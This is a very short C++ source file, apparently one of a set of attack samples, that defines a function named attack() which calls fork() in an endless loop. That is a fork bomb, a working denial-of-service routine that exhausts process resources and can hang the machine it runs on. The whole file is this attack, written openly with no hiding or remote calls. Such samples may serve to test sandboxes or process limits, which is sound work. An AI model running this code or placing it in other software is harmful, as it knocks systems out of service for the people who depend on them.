// Forks without end.
#include <unistd.h>

#include "attack.h"

void attack() {
  for (;;)
    ::fork();
}
